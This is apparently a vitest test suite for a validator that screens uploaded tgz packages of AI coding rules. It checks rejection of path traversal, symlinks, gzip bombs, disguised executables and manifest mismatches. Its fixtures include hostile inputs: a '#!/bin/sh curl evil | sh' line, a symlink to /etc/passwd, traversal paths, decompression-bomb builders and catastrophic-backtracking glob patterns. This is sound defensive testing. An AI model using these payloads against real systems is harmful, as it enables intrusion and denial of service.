import { Readable } from 'node:stream';
import { createGzip, deflateRawSync, gzipSync } from 'node:zlib';
import { pack } from 'tar-stream';
import { describe, expect, it } from 'vitest';
import { ApiError } from '../../shared/errors.js';
import { validateArchive } from '../../shared/packages/archiveValidator.js';
import { file, gzipMember, tarOf, tgzOf, type Entry } from '../support/archives.js';

const expected = { name: 'security-rules', version: '1.2.0' };
const manifestJson = JSON.stringify({ ...expected, description: 'Secure code', files: ['**'] }, null, 2);
const MB = 1_048_576;

const manifestEntry = (json = manifestJson, name = 'rulestack.json'): Entry => file(name, json);



/** Runs the validator and returns the ApiError it must throw. */
async function rejection(archive: Uint8Array, against = expected): Promise<ApiError> {
  const outcome = await validateArchive(archive, against).then(
    (summary) => new Error(`expected a rejection, got ${JSON.stringify(summary.files)}`),
    (error: unknown) => error,
  );
  expect(outcome).toBeInstanceOf(ApiError);
  return outcome as ApiError;
}

async function expectRejected(archive: Uint8Array, message: RegExp, against = expected): Promise<ApiError> {
  const error = await rejection(archive, against);
  expect(error.status).toBe(400);
  expect(error.message).toMatch(/^Archive rejected: /);
  expect(error.message).toMatch(message);
  return error;
}

/** Peak resident memory growth while `run` is in flight, sampled every few milliseconds. */
async function peakRssGrowth(run: () => Promise<unknown>): Promise<number> {
  const before = process.memoryUsage.rss();
  let peak = before;
  const sampler = setInterval(() => {
    peak = Math.max(peak, process.memoryUsage.rss());
  }, 2);
  try {
    await run();
  } finally {
    clearInterval(sampler);
    peak = Math.max(peak, process.memoryUsage.rss());
  }
  return peak - before;
}

/** gzip of a tar with one entry declaring `size` bytes of zeros, generated and compressed chunk by chunk. */
async function lazyZerosEntry(name: string, size: number): Promise<Buffer> {
  const tar = pack();
  const compressed: Buffer[] = [];
  const gzip = tar.pipe(createGzip({ level: 1 }));
  gzip.on('data', (chunk: Buffer) => compressed.push(chunk));
  const done = new Promise<void>((resolve, reject) => {
    gzip.on('end', resolve);
    gzip.on('error', reject);
  });
  const sink = tar.entry({ name, size }, (error) => {
    if (error) throw error;
    tar.finalize();
  });
  const zeros = Buffer.alloc(256 * 1024);
  await new Promise<void>((resolve, reject) => {
    Readable.from(
      (function* () {
        for (let left = size; left > 0; left -= zeros.length) yield left >= zeros.length ? zeros : zeros.subarray(0, left);
      })(),
    )
      .pipe(sink)
      .on('finish', resolve)
      .on('error', reject);
  });
  await done;
  return Buffer.concat(compressed);
}

describe('validateArchive: archives rfh pack makes', () => {
  it('accepts a package with the manifest at the root and reports its files', async () => {
    const listed = JSON.stringify({ ...expected, description: 'Secure code', files: ['security.md', 'rules/**'] }, null, 2);
    const archive = await tgzOf([
      manifestEntry(listed),
      file('security.md', '# Security\n\nNever log secrets. Ünïcödé is fine ✓\n'),
      { name: 'rules', type: 'directory' },
      file('rules/cursor.mdc', '---\ndescription: x\n---\n'),
      file('rules/notes.txt', ''),
      file('rules/data.json', '{"a":1}'),
    ]);
    const summary = await validateArchive(archive, expected);
    expect(summary.files).toEqual([
      { path: 'rulestack.json', size: Buffer.byteLength(listed), text: listed },
      { path: 'security.md', size: Buffer.byteLength('# Security\n\nNever log secrets. Ünïcödé is fine ✓\n'), text: '# Security\n\nNever log secrets. Ünïcödé is fine ✓\n' },
      { path: 'rules/cursor.mdc', size: 23, text: '---\ndescription: x\n---\n' },
      { path: 'rules/notes.txt', size: 0, text: '' },
      { path: 'rules/data.json', size: 7, text: '{"a":1}' },
    ]);
    expect(summary.totalBytes).toBe(summary.files.reduce((sum, f) => sum + f.size, 0));
    expect(summary.manifest).toEqual({ ...JSON.parse(listed), targets: [], tags: [], license: undefined });
  });

  it('accepts the npm-style layout with everything under package/', async () => {
    const archive = await tgzOf([manifestEntry(manifestJson, 'package/rulestack.json'), file('package/a.md')]);
    const summary = await validateArchive(archive, expected);
    expect(summary.files.map((f) => f.path)).toEqual(['package/rulestack.json', 'package/a.md']);
  });

  it('accepts "./" prefixes (tar -C dir .) and reports paths without them', async () => {
    const archive = await tgzOf([{ name: './', type: 'directory' }, manifestEntry(manifestJson, './rulestack.json'), file('./a.md')]);
    const summary = await validateArchive(archive, expected);
    expect(summary.files.map((f) => f.path)).toEqual(['rulestack.json', 'a.md']);
  });

  it('accepts upper-case extensions and a manifest with a UTF-8 byte order mark', async () => {
    const archive = await tgzOf([manifestEntry(`\uFEFF${manifestJson}`), file('README.MD')]);
    await expect(validateArchive(archive, expected)).resolves.toMatchObject({ manifest: { name: 'security-rules' } });
  });

  it('accepts a scoped package name', async () => {
    const scoped = { name: '@acme/security-rules', version: '2.0.0-beta' };
    const archive = await tgzOf([manifestEntry(JSON.stringify({ ...scoped, files: ['a.md'] })), file('a.md')]);
    await expect(validateArchive(archive, scoped)).resolves.toMatchObject({ manifest: scoped });
  });

  it('accepts a file of exactly 1 MB and exactly 10 MB in total', async () => {
    const manifestBytes = Buffer.byteLength(manifestJson);
    const entries = [manifestEntry()];
    for (let i = 0; i < 9; i++) entries.push(file(`big-${i}.txt`, 'a'.repeat(MB)));
    entries.push(file('rest.txt', 'a'.repeat(MB - manifestBytes)));
    const summary = await validateArchive(await tgzOf(entries), expected);
    expect(summary.totalBytes).toBe(10 * MB);
    expect(summary.files).toHaveLength(11);
  });

  it('accepts 100 files', async () => {
    const entries = [manifestEntry(), ...Array.from({ length: 99 }, (_, i) => file(`r/${i}.md`))];
    await expect(validateArchive(await tgzOf(entries), expected)).resolves.toMatchObject({ files: { length: 100 } });
  });
});

describe('validateArchive: paths', () => {
  it('rejects path traversal', async () => {
    await expectRejected(await tgzOf([manifestEntry(), file('../evil.md')]), /"\.\.\/evil\.md" escapes the package directory/);
  });

  it('rejects traversal hidden in the middle of a path', async () => {
    await expectRejected(await tgzOf([manifestEntry(), file('rules/../../evil.md')]), /escapes the package directory/);
  });

  it('rejects traversal in a directory entry', async () => {
    await expectRejected(await tgzOf([{ name: '../outside', type: 'directory' }, manifestEntry()]), /"\.\.\/outside\/?" escapes/);
  });

  it('rejects an absolute path', async () => {
    await expectRejected(await tgzOf([manifestEntry(), file('/etc/evil.md')]), /"\/etc\/evil\.md" is an absolute path/);
  });

  it('rejects a Windows drive path', async () => {
    await expectRejected(await tgzOf([manifestEntry(), file('C:/evil.md')]), /is an absolute path/);
  });

  it('rejects a backslash', async () => {
    await expectRejected(await tgzOf([manifestEntry(), file('..\\evil.md')]), /contains a backslash/);
  });

  it('rejects control characters in a name', async () => {
    await expectRejected(await tgzOf([manifestEntry(), file('evil\u0007.md')]), /contains a control character/);
  });

  it('rejects a path longer than 1024 characters', async () => {
    await expectRejected(await tgzOf([manifestEntry(), file(`${'d/'.repeat(520)}a.md`)]), /longer than 1024 characters/);
  });

  it('rejects the same path twice', async () => {
    const archive = await tgzOf([manifestEntry(), file('a.md'), file('./a.md', '#!/bin/sh')]);
    await expectRejected(archive, /"a\.md" appears more than once/);
  });
});

describe('validateArchive: paths that would collide when extracted', () => {
  it('rejects names that differ only in letter case (macOS and Windows file systems ignore it)', async () => {
    const error = await expectRejected(await tgzOf([manifestEntry(), file('README.md'), file('readme.md', '# Other\n')]), /would overwrite each other/);
    expect(error.message).toContain('"readme.md" and "README.md"');
  });

  it('rejects case twins in a directory name', async () => {
    await expectRejected(await tgzOf([manifestEntry(), file('Rules/a.md'), file('rules/a.md')]), /"rules\/a\.md" and "Rules\/a\.md" would overwrite each other/);
  });

  it('rejects names that differ only in Unicode normalisation (NFC and NFD)', async () => {
    const nfc = 'caf\u00e9.md';
    const nfd = 'cafe\u0301.md';
    expect(nfc).not.toBe(nfd);
    await expectRejected(await tgzOf([manifestEntry(), file(nfc), file(nfd)]), /would overwrite each other/);
  });

  it('rejects a file beside a directory of the same name, in either order', async () => {
    await expectRejected(await tgzOf([manifestEntry(), file('x.md'), file('x.md/y.md')]), /"x\.md" is both a file and a directory/);
    await expectRejected(await tgzOf([manifestEntry(), file('x.md/y.md'), file('x.md')]), /"x\.md" is both a file and a directory/);
    await expectRejected(await tgzOf([manifestEntry(), { name: 'X.md/', type: 'directory' }, file('x.md')]), /is both a file and a directory/);
    await expectRejected(await tgzOf([manifestEntry(), file('x.md'), { name: 'x.md', type: 'directory' }]), /is both a file and a directory/);
  });

  it('rejects ":" (an NTFS alternate data stream) and the other characters Windows refuses', async () => {
    await expectRejected(await tgzOf([manifestEntry(), file('a.md:evil.txt')]), /"a\.md:evil\.txt" contains ":", which Windows does not allow in a file name/);
    for (const name of ['a<b.md', 'a>b.md', 'a"b.md', 'a|b.md', 'a?b.md', 'a*b.md']) {
      await expectRejected(await tgzOf([manifestEntry(), file(name)]), /which Windows does not allow in a file name/);
    }
  });

  it.each(['CON.md', 'aux.txt', 'nul', 'com1', 'Com1.tar.md', 'lpt9.json', 'rules/PRN.md', 'aux/rules.md', 'nul .md', 'conin$.txt', 'COM\u00b9.md'])(
    'rejects the Windows device name in %j',
    async (name) => {
      await expectRejected(await tgzOf([manifestEntry(), file(name)]), /is a reserved device name on Windows/);
    },
  );

  it('accepts names that merely start like a device name', async () => {
    const names = ['console.md', 'auxiliary.md', 'com10.md', 'nul-notes.md', 'rules/con-tips.md', 'lpt.txt'];
    const archive = await tgzOf([manifestEntry(), ...names.map((n) => file(n))]);
    await expect(validateArchive(archive, expected)).resolves.toMatchObject({ files: { length: names.length + 1 } });
  });

  it('rejects a name longer than 255 bytes, which no common file system can store', async () => {
    await expect(validateArchive(await tgzOf([manifestEntry(), file(`${'a'.repeat(252)}.md`)]), expected)).resolves.toBeDefined();
    await expectRejected(await tgzOf([manifestEntry(), file(`${'\u00e9'.repeat(127)}.md`)]), /has a name longer than 255 bytes/);
  });

  it.each(['notes.md.', 'notes.md ', 'rules./a.md', 'rules /a.md'])('rejects a name ending in a dot or space: %j', async (name) => {
    await expectRejected(await tgzOf([manifestEntry(), file(name)]), /ends in a dot or a space, which Windows drops/);
  });
});

describe('validateArchive: gzip headers', () => {
  const tarBytes = () => tarOf([manifestEntry(), file('a.md')]);

  it('accepts the short file name and extra field gzip(1) and other tools write', async () => {
    const archive = gzipMember(await tarBytes(), { name: 'security-rules-1.2.0.tar', extra: Buffer.from('AP\u0004\u0000abcd', 'latin1') });
    await expect(validateArchive(archive, expected)).resolves.toMatchObject({ files: { length: 2 } });
  });

  it('rejects a gzip comment, however short', async () => {
    await expectRejected(gzipMember(await tarBytes(), { comment: 'hi' }), /its gzip header carries a comment/);
  });

  it('rejects a megabyte hidden in a gzip comment', async () => {
    await expectRejected(gzipMember(await tarBytes(), { comment: 'x'.repeat(1_048_576) }), /its gzip header carries a comment/);
  });

  it('rejects a gzip file name longer than 255 bytes', async () => {
    await expectRejected(gzipMember(await tarBytes(), { name: 'x'.repeat(1_048_576) }), /gzip header's file name is longer than 255 bytes/);
  });

  it('rejects a gzip extra field longer than 255 bytes', async () => {
    await expectRejected(gzipMember(await tarBytes(), { extra: Buffer.alloc(65_535, 0x41) }), /gzip header's extra field is 65535 bytes; at most 255/);
  });

  it('checks the header of every gzip member, not only the first', async () => {
    const tar = await tarBytes();
    const first = gzipMember(tar.subarray(0, 512));
    const second = gzipMember(tar.subarray(512), { comment: 'x'.repeat(1_048_576) });
    await expectRejected(Buffer.concat([first, second]), /its gzip header carries a comment/);
  });

  it('still reads a tar split over several gzip members', async () => {
    const tar = await tarBytes();
    const archive = Buffer.concat([gzipMember(tar.subarray(0, 512)), gzipMember(tar.subarray(512))]);
    await expect(validateArchive(archive, expected)).resolves.toMatchObject({ files: { length: 2 } });
  });

  it('rejects more than 100 gzip members', async () => {
    const tar = await tarBytes();
    const step = Math.ceil(tar.length / 101);
    const members = Array.from({ length: 101 }, (_, i) => gzipMember(tar.subarray(i * step, (i + 1) * step)));
    await expectRejected(Buffer.concat(members), /more than 100 gzip members/);
  });

  it('rejects bytes after the end of the gzip data', async () => {
    await expectRejected(Buffer.concat([gzipSync(await tarBytes()), Buffer.from('hidden payload')]), /bytes after the end of the gzip data/);
  });

  it('rejects reserved header flags, a wrong checksum and a wrong length', async () => {
    const good = gzipSync(await tarBytes());
    const flagged = Buffer.from(good);
    flagged[3] = 0x20;
    await expectRejected(flagged, /the gzip data is corrupt or truncated/);
    const badCrc = Buffer.from(good);
    badCrc.writeUInt32LE((badCrc.readUInt32LE(badCrc.length - 8) ^ 1) >>> 0, badCrc.length - 8);
    await expectRejected(badCrc, /the gzip data is corrupt or truncated/);
    const badSize = Buffer.from(good);
    badSize.writeUInt32LE(badSize.readUInt32LE(badSize.length - 4) + 1, badSize.length - 4);
    await expectRejected(badSize, /the gzip data is corrupt or truncated/);
  });

  it('rejects a header cut short and a member without its trailer', async () => {
    await expectRejected(Buffer.from([0x1f, 0x8b, 8, 0x08, 0, 0, 0, 0, 0, 3, 0x61]), /the gzip data is corrupt or truncated/);
    const tar = await tarBytes();
    const noTrailer = Buffer.concat([Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3]), deflateRawSync(tar)]);
    await expectRejected(noTrailer, /the gzip data is corrupt or truncated/);
  });
});

describe('validateArchive: entry types', () => {
  it('rejects a symbolic link', async () => {
    const archive = await tgzOf([manifestEntry(), { name: 'link.md', type: 'symlink', linkname: '/etc/passwd' }]);
    await expectRejected(archive, /"link\.md" is a symbolic link/);
  });

  it('rejects a hard link', async () => {
    const archive = await tgzOf([manifestEntry(), { name: 'hard.md', type: 'link', linkname: 'rulestack.json' }]);
    await expectRejected(archive, /"hard\.md" is a hard link/);
  });

  it.each([
    ['character-device', /is a device/],
    ['block-device', /is a device/],
    ['fifo', /is a FIFO/],
    ['contiguous-file', /is not a regular file/],
  ] as const)('rejects a %s', async (type, message) => {
    // A contiguous file carries data like a regular one; the others carry none.
    const content = type === 'contiguous-file' ? '# Rules\n' : undefined;
    const archive = await tgzOf([manifestEntry(), { name: 'special.md', type, content }]);
    await expectRejected(archive, message);
  });
});

describe('validateArchive: file types and contents', () => {
  it.each(['tool.exe', 'install.sh', 'lib.so', 'script.js', 'Makefile', '.md', 'notes.md.sh'])(
    'rejects %s by its extension',
    async (name) => {
      const archive = await tgzOf([manifestEntry(), file(name, 'harmless text')]);
      await expectRejected(archive, /is not an allowed file type; only \.md, \.mdc, \.txt and \.json/);
    },
  );

  it('rejects an ELF header inside a .md', async () => {
    const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]), Buffer.alloc(56)]);
    await expectRejected(await tgzOf([manifestEntry(), file('rules.md', elf)]), /"rules\.md" starts like an ELF executable/);
  });

  it.each([
    ['a Windows executable', Buffer.from('MZ\x90\x00\x03', 'latin1'), /Windows executable/],
    ['a script', Buffer.from('#!/bin/sh\ncurl evil | sh\n'), /script \("#!"\)/],
    ['a Mach-O binary', Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1]), /Mach-O executable/],
    ['a universal binary', Buffer.from([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 2]), /Mach-O universal binary/],
  ])('rejects %s disguised as text', async (_kind, content, message) => {
    await expectRejected(await tgzOf([manifestEntry(), file('rules.txt', content)]), message);
  });

  it('rejects invalid UTF-8', async () => {
    const latin1 = Buffer.from('Caf\xe9 rules\n', 'latin1');
    await expectRejected(await tgzOf([manifestEntry(), file('rules.md', latin1)]), /"rules\.md" is not valid UTF-8 text/);
  });

  it('rejects a UTF-8 sequence cut off at the end of the file', async () => {
    const cut = Buffer.from('ends with \u20ac').subarray(0, -1);
    await expectRejected(await tgzOf([manifestEntry(), file('rules.md', cut)]), /is not valid UTF-8 text/);
  });

  it('rejects a NUL byte', async () => {
    await expectRejected(await tgzOf([manifestEntry(), file('rules.md', 'text\u0000more')]), /"rules\.md" contains a NUL byte/);
  });

  it('rejects a NUL byte in the first bytes of a file', async () => {
    await expectRejected(await tgzOf([manifestEntry(), file('tiny.md', '\u0000')]), /contains a NUL byte/);
  });
});

describe('validateArchive: limits', () => {
  it('rejects 101 files', async () => {
    const entries = [manifestEntry(), ...Array.from({ length: 100 }, (_, i) => file(`r/${i}.md`))];
    await expectRejected(await tgzOf(entries), /contains more than 100 files/);
  });

  it('does not count directories as files', async () => {
    const entries = [
      manifestEntry(),
      ...Array.from({ length: 150 }, (_, i): Entry => ({ name: `dir-${i}`, type: 'directory' })),
      file('a.md'),
    ];
    await expect(validateArchive(await tgzOf(entries), expected)).resolves.toMatchObject({ files: { length: 2 } });
  });

  it('rejects a file of 1 MB + 1 byte', async () => {
    const archive = await tgzOf([manifestEntry(), file('big.md', 'a'.repeat(MB + 1))]);
    await expectRejected(archive, /"big\.md" is 1048577 bytes; a file may be at most 1 MB/);
  });

  it('rejects more than 10 MB in total', async () => {
    const entries = [manifestEntry(), ...Array.from({ length: 11 }, (_, i) => file(`big-${i}.txt`, 'a'.repeat(MB)))];
    await expectRejected(await tgzOf(entries), /add up to more than 10 MB uncompressed/);
  });

  it('refuses a single entry declaring 50 MB of zeros without inflating it', async () => {
    const bomb = await lazyZerosEntry('bomb.md', 50 * MB);
    expect(bomb.length).toBeLessThan(MB);
    let error: ApiError | undefined;
    const growth = await peakRssGrowth(async () => {
      error = await rejection(bomb);
    });
    expect(error?.status).toBe(400);
    expect(error?.message).toMatch(/"bomb\.md" is 52428800 bytes; a file may be at most 1 MB/);
    expect(growth).toBeLessThan(64 * MB);
  });

  it('stops inflating a gzip bomb of 1 GB of empty tar blocks at the limit', async () => {
    // Concatenated gzip members inflate to one stream: a valid start, then 1 GiB of zeros,
    // which a tar reader skips as empty blocks, so only the byte meter can stop it.
    const start = gzipSync(await tarOf([manifestEntry(), file('a.md')]));
    const zerosMember = gzipSync(Buffer.alloc(MB), { level: 9 });
    const bomb = Buffer.concat([start, ...Array.from({ length: 1024 }, () => zerosMember)]);
    expect(bomb.length).toBeLessThan(2 * MB);
    let error: ApiError | undefined;
    const startedAt = performance.now();
    const growth = await peakRssGrowth(async () => {
      error = await rejection(bomb);
    });
    expect(error?.status).toBe(400);
    expect(error?.message).toMatch(/uncompresses to more than 11 MB; a package may hold at most 10 MB of files/);
    expect(growth).toBeLessThan(64 * MB);
    // Inflating the whole gigabyte takes seconds; stopping at ~11 MB takes a fraction of that.
    expect(performance.now() - startedAt).toBeLessThan(5_000);
  });

  it('stops a bomb of many files of almost 1 MB each at the total limit', async () => {
    const tar = await tarOf([manifestEntry(), file('a.md')]);
    // Twelve entries that each pass every per-file check, as separately compressed gzip
    // members of one tar stream: each member is small, together they inflate to 12 MB.
    const oneFile = await tarOf([file('x.txt', ' '.repeat(MB - 1024))]);
    const withoutEnd = oneFile.subarray(0, oneFile.length - 1024);
    const members = Array.from({ length: 12 }, (_, i) => gzipSync(retitle(withoutEnd, `f${String(i).padStart(2, '0')}.txt`)));
    const bomb = Buffer.concat([gzipSync(tar.subarray(0, tar.length - 1024)), ...members]);
    const growth = await peakRssGrowth(async () => {
      await expectRejected(bomb, /add up to more than 10 MB uncompressed/);
    });
    expect(growth).toBeLessThan(64 * MB);
  });
});

describe('validateArchive: not a tgz', () => {
  it('rejects bytes that are not gzip', async () => {
    await expectRejected(Buffer.from('# just markdown\n'), /it is not a gzip file/);
  });

  it('rejects an empty upload', async () => {
    await expectRejected(new Uint8Array(0), /the archive is empty/);
  });

  it('rejects a zip file, saying so', async () => {
    await expectRejected(Buffer.from('PK\x03\x04\x14\x00\x00\x00', 'latin1'), /it is a zip file/);
  });

  it('rejects an uncompressed tar, saying so', async () => {
    await expectRejected(await tarOf([manifestEntry()]), /it is an uncompressed tar/);
  });

  it('rejects gzip that is not a tar', async () => {
    await expectRejected(gzipSync('not a tar archive, just text. '.repeat(100)), /the gzip content is not a valid tar archive/);
  });

  it('rejects gzip of fewer bytes than one tar header', async () => {
    await expectRejected(gzipSync('short'), /not a valid tar archive, or it is truncated/);
  });

  it('rejects a truncated gzip stream', async () => {
    const archive = await tgzOf([manifestEntry(), file('a.md', 'x'.repeat(10_000))]);
    await expectRejected(archive.subarray(0, archive.length - 20), /the gzip data is corrupt or truncated/);
  });

  it('rejects corrupt gzip data', async () => {
    const archive = Buffer.from(await tgzOf([manifestEntry(), file('a.md', 'rules '.repeat(1000))]));
    archive.fill(0xff, 12, 40);
    await expectRejected(archive, /the gzip data is corrupt or truncated/);
  });
});

describe('validateArchive: the embedded rulestack.json', () => {
  it('rejects an archive without rulestack.json', async () => {
    await expectRejected(await tgzOf([file('a.md')]), /contains no rulestack\.json/);
  });

  it('does not take a rulestack.json from any other directory', async () => {
    await expectRejected(await tgzOf([manifestEntry(manifestJson, 'rules/rulestack.json'), file('a.md')]), /contains no rulestack\.json/);
  });

  it('rejects a rulestack.json naming another package, saying which field differs', async () => {
    const other = JSON.stringify({ ...expected, name: 'other-rules' });
    const error = await expectRejected(await tgzOf([manifestEntry(other), file('a.md')]), /does not match the manifest/);
    expect(error.message).toContain('name is "other-rules" in the archive but "security-rules" in the manifest');
    expect(error.message).not.toContain('version');
  });

  it('rejects a rulestack.json nested deeper than any manifest (a 400, not a stack overflow)', async () => {
    const deep = `{"name":${'['.repeat(20_000)}"x"${']'.repeat(20_000)},"version":"1.2.0","files":["a.md"]}`;
    await expectRejected(await tgzOf([manifestEntry(deep), file('a.md')]), /rulestack\.json is not a valid package manifest: .*nested too deeply/);
  });

  it('rejects a rulestack.json with another version', async () => {
    const other = JSON.stringify({ ...expected, version: '9.9.9' });
    const error = await expectRejected(await tgzOf([manifestEntry(other), file('a.md')]), /does not match the manifest/);
    expect(error.message).toContain('version is "9.9.9" in the archive but "1.2.0" in the manifest');
    expect(error.message).not.toContain('name is');
  });

  it('reports both differences at once, and a missing field as missing', async () => {
    const error = await expectRejected(await tgzOf([manifestEntry('{"version": 2}')]), /does not match/);
    expect(error.message).toContain('name is missing in the archive');
    expect(error.message).toContain('version is "2" in the archive');
  });

  it('rejects a rulestack.json that is not JSON', async () => {
    await expectRejected(await tgzOf([manifestEntry('{ name: oops')]), /rulestack\.json is not valid JSON/);
  });

  it('rejects a rulestack.json that is a list (the project-file format)', async () => {
    await expectRejected(await tgzOf([manifestEntry(JSON.stringify([expected]))]), /rulestack\.json must be a JSON object/);
  });

  it('rejects two manifests', async () => {
    const archive = await tgzOf([manifestEntry(), manifestEntry(manifestJson, 'package/rulestack.json')]);
    await expectRejected(archive, /both rulestack\.json and package\/rulestack\.json/);
  });
});

describe("validateArchive: the archive's rulestack.json is what gets published", () => {
  const harmless = { ...expected, description: 'Harmless style guide', targets: ['cursor'], tags: ['style'], license: 'MIT', files: ['rules.md'] };

  it('rejects a form manifest whose description and targets differ from the archive, naming both', async () => {
    const own = JSON.stringify({ ...harmless, description: 'steals your secrets', targets: ['claude-code', 'windsurf'] });
    const error = await expectRejected(await tgzOf([manifestEntry(own), file('rules.md')]), /rulestack\.json does not match the manifest/, harmless);
    expect(error.message).toContain('description is "steals your secrets" in the archive but "Harmless style guide" in the manifest');
    expect(error.message).toContain('targets are ["claude-code","windsurf"] in the archive but ["cursor"] in the manifest');
    expect(error.message).not.toContain('tags');
  });

  it.each([
    ['tags', { tags: ['style', 'extra'] }, /tags are \["style","extra"\] in the archive but \["style"\]/],
    ['license', { license: 'GPL-3.0' }, /license is "GPL-3\.0" in the archive but "MIT"/],
    ['license, when the archive has none', { license: undefined }, /license is missing in the archive but "MIT"/],
    ['files', { files: ['rules.md', 'more.md'] }, /files are \["rules\.md","more\.md"\] in the archive but \["rules\.md"\]/],
    ['description, when the archive has none', { description: undefined }, /description is missing in the archive/],
  ])('rejects a difference in %s', async (_field, change, message) => {
    const own = JSON.stringify({ ...harmless, ...change });
    await expectRejected(await tgzOf([manifestEntry(own), file('rules.md'), file('more.md')]), message, harmless);
  });

  it('compares after the same normalisation: tag case and duplicates, list order, absent and empty', async () => {
    const own = JSON.stringify({ ...expected, description: '', targets: ['windsurf', 'cursor'], tags: ['Style', 'lint', 'style'], files: ['rules.md'] });
    const form = { ...expected, targets: ['cursor', 'windsurf'], tags: ['lint', 'style'], files: ['./rules.md'] };
    const summary = await validateArchive(await tgzOf([manifestEntry(own), file('rules.md')]), form);
    expect(summary.manifest).toMatchObject({ description: '', targets: ['windsurf', 'cursor'], tags: ['style', 'lint'] });
  });

  it('takes what the form manifest leaves out from the archive', async () => {
    const own = JSON.stringify(harmless);
    const summary = await validateArchive(await tgzOf([manifestEntry(own), file('rules.md')]), expected);
    expect(summary.manifest).toEqual(harmless);
  });

  it('rejects an archive manifest that is not a valid package manifest', async () => {
    const own = JSON.stringify({ ...harmless, tags: ['not a tag!'] });
    await expectRejected(await tgzOf([manifestEntry(own), file('rules.md')]), /rulestack\.json is not a valid package manifest: tags\.0 may contain only/, expected);
  });
});

describe('validateArchive: the files rulestack.json lists', () => {
  const withFiles = (files: unknown) => manifestEntry(JSON.stringify({ ...expected, files }));

  it('rejects a file that no entry of files covers', async () => {
    const error = await expectRejected(await tgzOf([withFiles(['rules.md']), file('rules.md'), file('evil.md')]), /"evil\.md" is not covered by the files of rulestack\.json/);
    expect(error.message).toContain('["rules.md"]');
  });

  it('rejects a listed file that is not in the archive', async () => {
    await expectRejected(await tgzOf([withFiles(['rules.md', 'gone.md']), file('rules.md')]), /rulestack\.json lists "gone\.md" in files, but the archive has no such file/);
  });

  it('accepts the glob patterns older clients wrote, matching nested paths', async () => {
    const archive = await tgzOf([withFiles(['rules/**/*.md', '*.txt']), file('rules/a.md'), file('rules/deep/b.md'), file('notes.txt')]);
    await expect(validateArchive(archive, expected)).resolves.toMatchObject({ files: { length: 4 } });
    await expectRejected(await tgzOf([withFiles(['rules/**/*.md']), file('rules/a.md'), file('rules/c.mdc')]), /"rules\/c\.mdc" is not covered/);
  });

  it('lets a glob match nothing, but not leave a file out', async () => {
    await expect(validateArchive(await tgzOf([withFiles(['*.md', 'docs/**']), file('a.md')]), expected)).resolves.toBeDefined();
  });

  it('does not read a leading "!" as an exclusion that would cover everything else', async () => {
    await expectRejected(await tgzOf([withFiles(['!*.txt']), file('evil.md')]), /"evil\.md" is not covered/);
  });

  it('accepts a literal entry naming a directory of the archive', async () => {
    await expect(validateArchive(await tgzOf([withFiles(['rules', 'rules/*.md']), file('rules/a.md')]), expected)).resolves.toBeDefined();
  });

  it('refuses more than 20 glob patterns, counting each choice of a {a,b} group', async () => {
    const twenty = Array.from({ length: 20 }, (_, i) => `r${i}/*.md`);
    await expect(validateArchive(await tgzOf([withFiles(twenty), file('r0/a.md')]), expected)).resolves.toBeDefined();
    await expectRejected(await tgzOf([withFiles([...twenty, 'x/*.md']), file('r0/a.md')]), /hold more than 20 glob patterns/);
    await expectRejected(await tgzOf([withFiles(['{a,b,c,d,e,f,g}/{x,y,z}*.md']), file('a/x.md')]), /hold more than 20 glob patterns/);
    await expectRejected(await tgzOf([withFiles(['{1..21}.md']), file('1.md')]), /hold more than 20 glob patterns/);
    // A huge range is matched as a range, never expanded.
    await expect(validateArchive(await tgzOf([withFiles(['{1..1000000}.md']), file('999.md')]), expected)).resolves.toBeDefined();
  });

  it('matches hostile patterns against long names in polynomial time', async () => {
    // Backtracking matchers (a pattern compiled to one regular expression) take minutes here.
    const hostile = ['*a'.repeat(40) + '*b', '**/*a*/'.repeat(10) + 'x', '?*'.repeat(40) + 'b'];
    const patterns = [...Array.from({ length: 19 }, (_, i) => hostile[i % hostile.length]!), '**'];
    const name = 'a'.repeat(250);
    const files = Array.from({ length: 99 }, (_, i) => file(`${name}/${name}/${name}/${String(i).padStart(3, '0')}${'a'.repeat(200)}.md`));
    const startedAt = performance.now();
    await expect(validateArchive(await tgzOf([withFiles(patterns), ...files]), expected)).resolves.toMatchObject({ files: { length: 100 } });
    expect(performance.now() - startedAt).toBeLessThan(3_000);
  });

  it('reads files relative to the directory of rulestack.json (package/ layout)', async () => {
    const nested = manifestEntry(JSON.stringify({ ...expected, files: ['a.md'] }), 'package/rulestack.json');
    await expect(validateArchive(await tgzOf([nested, file('package/a.md')]), expected)).resolves.toBeDefined();
    await expectRejected(await tgzOf([nested, file('package/a.md'), file('outside.md')]), /"outside\.md" is not covered/);
  });
});

/** A copy of a single-entry tar with another name and a recomputed header checksum. */
function retitle(tar: Buffer, name: string): Buffer {
  const copy = Buffer.from(tar);
  copy.fill(0, 0, 100);
  copy.write(name, 0, 'ascii');
  copy.fill(0x20, 148, 156);
  let sum = 0;
  for (let i = 0; i < 512; i++) sum += copy[i]!;
  copy.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148, 'ascii');
  return copy;
}
